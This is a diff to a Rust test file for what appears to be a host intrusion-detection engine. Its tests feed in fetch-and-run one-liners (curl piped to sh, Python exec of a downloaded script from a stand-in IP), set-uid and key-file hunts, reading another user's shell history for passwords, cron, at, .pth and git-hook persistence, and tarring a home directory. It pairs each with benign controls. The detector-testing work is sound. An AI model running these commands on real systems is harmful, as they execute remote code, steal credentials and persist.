@@ -87,12 +87,12 @@ fn fetched_code_run_in_memory() {
     ]);
     s.expect(
         "decode_and_run",
-        &["ran code fetched over the network without writing it to disk"],
+        &["ran code fetched from the network without saving it"],
         Level::High,
     );
     let mut s = Sim::new();
     s.run(&["sh", "-c", "curl -fsSL http://203.0.113.7/i.sh | sh"]);
-    s.expect("decode_and_run", &["fetched over the network"], Level::High);
+    s.expect("decode_and_run", &["fetched from the network"], Level::High);
     // Fetching and printing is not running.
     let mut s = Sim::new();
     s.run(&[
@@ -357,4 +357,155 @@ fn wrappers_replacing_themselves_with_a_shell_script_are_not_escapes() {
     assert_eq!(f.len(), 1, "{f:?}");
     assert!(f[0].0.contains("awk>sh never seen"), "{f:?}");
     assert_eq!(f[0].1, 20);
+}
+
+#[test]
+fn pointed_discovery_and_interpreters_reading_discovery_files() {
+    // A set-uid hunt is a finding on its own.
+    let mut s = Sim::new();
+    s.run(&["find", "/", "-xdev", "-perm", "-4000", "-type", "f"]);
+    s.expect(
+        "targeted_discovery",
+        &["hunted for set-uid programs", "find / -xdev"],
+        Level::Medium,
+    );
+    let mut s = Sim::new();
+    s.run(&["find", "/home", "-name", "*.kdbx", "-o", "-name", "id_*"]);
+    s.expect(
+        "targeted_discovery",
+        &["searched files for passwords, keys or tokens"],
+        Level::Medium,
+    );
+    // One Python process profiling the host through files.
+    let mut s = Sim::new();
+    let py = s.run(&["python3", "-"]);
+    for f in [
+        "/etc/os-release",
+        "/proc/mounts",
+        "/etc/hosts",
+        "/etc/passwd",
+        "/etc/group",
+    ] {
+        s.open(py, f, 0);
+    }
+    s.expect(
+        "recon_breadth",
+        &["discovery areas", "system (/etc/os-release)"],
+        Level::Medium,
+    );
+    // Programs reading the same files for their own work are not exploring.
+    let mut s = Sim::new();
+    let ls = s.run(&["ls", "-l"]);
+    for f in [
+        "/etc/os-release",
+        "/proc/mounts",
+        "/etc/hosts",
+        "/etc/passwd",
+        "/etc/group",
+    ] {
+        s.open(ls, f, 0);
+    }
+    s.run(&["find", ".", "-name", "*.rs"]);
+    s.none("recon_breadth");
+}
+
+#[test]
+fn other_users_history_read_and_code_fetched_and_run() {
+    let mut s = Sim::new();
+    let g = s.sudo(&["grep", "-Hi", "pass", "/home/bob/.bash_history"]);
+    s.open(g, "/home/bob/.bash_history", 0);
+    s.expect(
+        "credential_access",
+        &["read bob's shell history /home/bob/.bash_history"],
+        Level::Medium,
+    );
+    let mut s = Sim::new();
+    let g = s.run(&["grep", "git", "/home/alice/.bash_history"]);
+    s.open(g, "/home/alice/.bash_history", 0);
+    s.none("credential_access");
+
+    let mut s = Sim::new();
+    s.run(&[
+        "python3",
+        "-c",
+        "import urllib.request as u; exec(u.urlopen('http://203.0.113.7/s.py').read())",
+    ]);
+    s.expect(
+        "decode_and_run",
+        &["ran code fetched from the network without saving it"],
+        Level::High,
+    );
+    let mut s = Sim::new();
+    s.run(&["bash", "-c", "curl -s http://203.0.113.7/i.sh | bash"]);
+    s.expect("decode_and_run", &["fetched from the network"], Level::High);
+    let mut s = Sim::new();
+    s.run(&[
+        "bash",
+        "-c",
+        "curl -s -o x.tgz http://203.0.113.7/x.tgz && tar xzf x.tgz",
+    ]);
+    s.none("decode_and_run");
+}
+
+#[test]
+fn crontab_at_python_startup_and_git_hooks_persist() {
+    let mut s = Sim::new();
+    s.run(&["crontab", "-"]);
+    s.expect(
+        "persistence",
+        &["installed a crontab (crontab -)"],
+        Level::Medium,
+    );
+    let mut s = Sim::new();
+    s.run(&["at", "now", "+", "1", "minute"]);
+    s.expect("persistence", &["queued a job with at"], Level::Medium);
+    let mut s = Sim::new();
+    s.run(&["crontab", "-l"]);
+    s.run(&["atq"]);
+    s.none("persistence");
+    for path in [
+        "/home/alice/.local/lib/python3.11/site-packages/zz.pth",
+        "/tmp/x/repo/.git/hooks/post-checkout",
+        "/home/alice/.githooks/post-checkout",
+    ] {
+        let mut s = Sim::new();
+        let p = s.run(&["tee", path]);
+        s.open(p, path, O_WRONLY | O_CREAT | O_TRUNC);
+        s.expect("persistence", &[&format!("wrote {path}")], Level::Medium);
+    }
+    let mut s = Sim::new();
+    let g = s.run(&["git", "init"]);
+    s.open(
+        g,
+        "/home/alice/p/.git/hooks/pre-commit.sample",
+        O_WRONLY | O_CREAT | O_TRUNC,
+    );
+    s.none("persistence");
+}
+
+#[test]
+fn archived_relative_to_a_directory() {
+    let mut s = Sim::new();
+    s.sudo(&["tar", "czf", "/var/tmp/.h.tgz", "-C", "/home", "bob"]);
+    s.expect("staging", &["packed /home/bob with tar"], Level::Medium);
+    let mut s = Sim::new();
+    s.run(&["tar", "czf", "/tmp/p.tgz", "-C", "/home/alice", "proj"]);
+    s.none("staging");
+}
+
+#[test]
+fn areas_explored_while_learning_do_not_count_right_after() {
+    let mut s = Sim::with_store(Store::memory().unwrap(), true);
+    s.run(&["dpkg", "-l"]);
+    s.run(&["uname", "-a"]);
+    s.e.finish();
+    s.e.vouch().unwrap();
+    s.e.set_learn_all(false);
+    s.out.clear();
+    // Seconds later, still inside the recon window: three new areas are not four.
+    s.t += 10_000_000_000;
+    for c in [&["id"][..], &["ip", "a"], &["ps", "aux"]] {
+        s.run(c);
+    }
+    s.none("recon_breadth");
 }
